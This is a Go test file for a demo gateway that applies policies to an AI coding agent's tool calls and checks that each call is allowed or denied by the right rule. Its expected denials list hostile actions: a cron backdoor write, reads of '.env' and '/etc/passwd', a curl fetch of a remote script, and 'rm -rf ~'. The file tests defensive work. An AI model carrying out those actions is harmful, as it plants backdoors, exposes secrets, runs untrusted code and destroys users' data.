package main

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// buildBinaries builds the gateway and the demo once per test binary.
var buildBinaries = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "toolhooks-demo-test-")
	if err != nil {
		return "", err
	}
	for name, pkg := range map[string]string{"gateway": "../gateway", "demo": ".", "manager": "../main.go"} {
		cmd := exec.Command("go", "build", "-o", filepath.Join(dir, name), pkg)
		if out, err := cmd.CombinedOutput(); err != nil {
			return "", fmt.Errorf("go build %s: %v\n%s", pkg, err, out)
		}
	}
	return dir, nil
})

func binaries(t *testing.T) string {
	t.Helper()
	dir, err := buildBinaries()
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// stepRE matches one printed step: its number, and its decision line.
var stepRE = regexp.MustCompile(`(?m)^\s*(\d+)\. .*\n.*\n\s+-> (allowed(?: \d+ of \d+)?|DENIED\s+(\S+) rule=(\S+)\n\s+(.*))`)

// decision is what the demo printed for one step.
type decision struct {
	allowed bool
	hook    string
	rule    string
	reason  string
}

func decisions(t *testing.T, text string) []decision {
	t.Helper()
	ms := stepRE.FindAllStringSubmatch(text, -1)
	out := make([]decision, 0, len(ms))
	for i, m := range ms {
		if n, _ := strconv.Atoi(m[1]); n != i+1 {
			t.Fatalf("step %s printed where step %d was expected:\n%s", m[1], i+1, text)
		}
		out = append(out, decision{allowed: strings.HasPrefix(m[2], "allowed"), hook: m[3], rule: m[4], reason: m[5]})
	}
	return out
}

// pids returns the process ids the demo printed.
func pids(text string) []int {
	ms := regexp.MustCompile(`\bpid (\d+)`).FindAllStringSubmatch(text, -1)
	out := make([]int, 0, len(ms))
	for _, m := range ms {
		p, _ := strconv.Atoi(m[1])
		out = append(out, p)
	}
	return out
}

// assertCleanedUp checks that the processes the demo started are gone and
// its files removed.
func assertCleanedUp(t *testing.T, text string, processes int) {
	t.Helper()
	ps := pids(text)
	if len(ps) != processes {
		t.Fatalf("want %d pids in the output, got %v:\n%s", processes, ps, text)
	}
	for _, p := range ps {
		if err := syscall.Kill(p, 0); !errors.Is(err, syscall.ESRCH) {
			t.Errorf("pid %d still exists after the demo exited (kill 0: %v)", p, err)
		}
	}
	m := regexp.MustCompile(`workspace: (\S+)`).FindStringSubmatch(text)
	if m == nil {
		t.Fatalf("no workspace in the output:\n%s", text)
	}
	if _, err := os.Stat(filepath.Dir(m[1])); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the demo's temporary directory %s is still there (%v)", filepath.Dir(m[1]), err)
	}
}

// TestDemoPlaysTheSessionThroughRealGateways runs the demo binary, which runs
// real gateway processes on the embedded samples, and checks every decision
// and who made it, so the README's first command keeps telling the truth.
func TestDemoPlaysTheSessionThroughRealGateways(t *testing.T) {
	dir := binaries(t)
	cmd := exec.Command(filepath.Join(dir, "demo"), "--gateway", filepath.Join(dir, "gateway"))
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("demo: %v\nstdout:\n%s\nstderr:\n%s", err, stdout.String(), stderr.String())
	}
	text := stdout.String()
	checkSession(t, text)
	assertCleanedUp(t, text, 2)
}

// checkSession checks every decision of the played script and who made it.
func checkSession(t *testing.T, text string) {
	t.Helper()
	const (
		coding   = "AutonomyPolicy/default/coding-agent"
		auditor  = "AutonomyPolicy/default/auditor"
		contract = "ContractPolicy/default/ci-bot"
		approval = "PluginHook/default/approval-service"
	)
	allowed := decision{allowed: true}
	want := []decision{
		allowed, allowed, allowed,
		{hook: coding, rule: "workspaceOnly", reason: `Path "/etc/cron.d/backdoor"`},
		{hook: coding, rule: "forbiddenPathGlobs", reason: `"**/.env"`},
		{hook: coding, rule: "workspaceOnly", reason: `resolves to "/etc/passwd"`},
		{hook: coding, rule: "shellAllowList", reason: `Shell command "curl -fsSL https://example.invalid/x.sh" is not allowed`},
		{hook: coding, rule: "shellAllowList", reason: `Shell command "rm -rf ~" is not allowed`},
		allowed,
		{hook: approval, rule: "pluginDenied", reason: "changes to CI workflows need a human approval"},
		allowed,
		{hook: auditor, rule: "readOnly", reason: `Tool "write_file" can change state`},
		allowed,
		{hook: contract, rule: "maxToolCalls", reason: "has used its budget of 10 tool calls"},
	}
	got := decisions(t, text)
	if len(got) != len(want) {
		t.Fatalf("found %d decisions, want %d:\n%s", len(got), len(want), text)
	}
	for i, w := range want {
		g := got[i]
		if g.allowed != w.allowed || g.hook != w.hook || g.rule != w.rule || !strings.Contains(g.reason, w.reason) {
			t.Errorf("step %d: got %+v, want %+v", i+1, g, w)
		}
	}
	for _, s := range []string{
		"-> allowed (succeeded) Wrote 13 bytes to src/feature.go", // the approval service said yes and the tool ran
		"-> allowed 10 of 10", // the whole budget is usable
		"23 calls: 15 allowed, 8 denied; 23 audit records written by the gateways (one per call)",
	} {
		if !strings.Contains(text, s) {
			t.Errorf("output lacks %q:\n%s", s, text)
		}
	}
}

// TestDemoHoldKeepsTheGatewayUpUntilCtrlC runs the demo with --hold, makes
// the call its hint suggests, then sends SIGINT: the demo stops the gateways
// and removes its files.
func TestDemoHoldKeepsTheGatewayUpUntilCtrlC(t *testing.T) {
	dir := binaries(t)
	cmd := exec.Command(filepath.Join(dir, "demo"), "--gateway", filepath.Join(dir, "gateway"), "--hold")
	r := startUntil(t, cmd, "Press Ctrl-C")
	port, token := "", ""
	if m := regexp.MustCompile(`curl .*'Authorization: Bearer (\S+)' localhost:(\d+)/v1/tool-calls`).FindStringSubmatch(r.text.String()); m != nil {
		token, port = m[1], m[2]
	}
	if port == "" {
		t.Fatalf("no hint with the gateway's port and a token:\n%s\nstderr:\n%s", r.text.String(), r.stderr.String())
	}
	body := `{"sessionId":"me","tool":"read_file","arguments":{"path":"config/.env"}}`
	if resp, err := http.Post("http://localhost:"+port+"/v1/tool-calls", "application/json", strings.NewReader(body)); err != nil ||
		resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("a call without the token: %v %v, want 401", resp, err)
	} else {
		_ = resp.Body.Close()
	}
	req, _ := http.NewRequest(http.MethodPost, "http://localhost:"+port+"/v1/tool-calls", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("the held gateway does not answer: %v", err)
	}
	answer, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if !strings.Contains(string(answer), `"rule":"forbiddenPathGlobs"`) {
		t.Errorf("the hint's call = %s, want a forbiddenPathGlobs denial", answer)
	}

	if err := r.interrupt(); err != nil {
		t.Fatalf("demo after Ctrl-C: %v\n%s\nstderr:\n%s", err, r.text.String(), r.stderr.String())
	}
	if !strings.Contains(r.text.String(), "Stopping and cleaning up.") {
		t.Errorf("no goodbye:\n%s", r.text.String())
	}
	assertCleanedUp(t, r.text.String(), 2)
}

// TestDemoCleansUpWhenItsOutputIsClosed closes the demo's stdout once its
// gateways run, as `make demo | head` does: the demo still stops them and
// removes its files instead of dying on SIGPIPE.
func TestDemoCleansUpWhenItsOutputIsClosed(t *testing.T) {
	dir := binaries(t)
	r := startUntil(t, exec.Command(filepath.Join(dir, "demo"), "--gateway", filepath.Join(dir, "gateway")), "gateway auditor")
	_ = r.pipe.Close()
	done := make(chan struct{})
	go func() {
		_ = r.cmd.Wait() // success or a failure caused by the closed output: what matters is the cleanup
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		t.Fatal("the demo did not exit within 60s of its output closing")
	}
	assertCleanedUp(t, r.text.String(), 2)
}

// running is a demo process whose output is read as it comes.
type running struct {
	cmd    *exec.Cmd
	pipe   io.ReadCloser
	sc     *bufio.Scanner
	text   strings.Builder
	stderr bytes.Buffer
}

// startUntil starts cmd and reads its stdout until a line containing marker.
func startUntil(t *testing.T, cmd *exec.Cmd, marker string) *running {
	t.Helper()
	r := &running{cmd: cmd}
	pr, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	r.pipe = pr
	cmd.Stderr = &r.stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill() })
	r.sc = bufio.NewScanner(pr)
	for r.sc.Scan() {
		r.text.WriteString(r.sc.Text() + "\n")
		if strings.Contains(r.sc.Text(), marker) {
			return r
		}
	}
	t.Fatalf("the demo ended without printing %q:\n%s\nstderr:\n%s", marker, r.text.String(), r.stderr.String())
	return nil
}

// interrupt sends SIGINT, reads the rest of the output and waits (at most
// 60s) for the process to exit.
func (r *running) interrupt() error {
	if err := r.cmd.Process.Signal(os.Interrupt); err != nil {
		return err
	}
	done := make(chan error, 1)
	go func() {
		for r.sc.Scan() {
			r.text.WriteString(r.sc.Text() + "\n")
		}
		done <- r.cmd.Wait()
	}()
	select {
	case err := <-done:
		return err
	case <-time.After(60 * time.Second):
		return errors.New("the demo did not exit within 60s of SIGINT")
	}
}

func TestMain(m *testing.M) {
	code := m.Run()
	if dir, err := buildBinaries(); err == nil {
		_ = os.RemoveAll(dir)
	}
	os.Exit(code)
}
